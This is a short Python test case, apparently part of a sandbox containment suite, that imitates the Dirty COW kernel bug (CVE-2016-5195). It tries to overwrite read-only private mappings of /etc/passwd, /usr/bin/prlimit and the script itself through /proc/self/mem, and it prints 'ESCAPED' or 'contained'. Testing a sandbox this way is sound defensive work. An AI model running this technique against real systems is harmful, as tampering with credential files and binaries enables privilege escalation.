# Attack: 60, writing to a read-only mapping through /proc/self/mem
# Source: CVE-2016-5195 (Dirty COW), as asked about in firejail issue 869
# Tries: maps a file of the system and the program itself read-only and private, drops the pages and writes to them by /proc/self/mem.
# Meets: only its own copy of the pages changes; the files read as they did before.
# Expect: contained
import mmap
import os
import sys

memory = os.open("/proc/self/mem", os.O_RDWR)
with open("/proc/self/maps") as maps:
    already = maps.read()
for path in (sys.argv[0], "/usr/bin/prlimit", "/etc/passwd"):
    file = os.open(path, os.O_RDONLY)
    before = os.pread(file, 64, 0)
    mapped = mmap.mmap(file, 64, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
    with open("/proc/self/maps") as maps:
        line = next(line for line in maps if path in line and line not in already)
    address = int(line.split("-")[0], 16)
    for _ in range(200):
        mapped.madvise(mmap.MADV_DONTNEED)
        os.pwrite(memory, b"dirty cow", address)
    if os.pread(file, 64, 0) != before:
        print("ESCAPED: changed", path)
        raise SystemExit
print("contained")
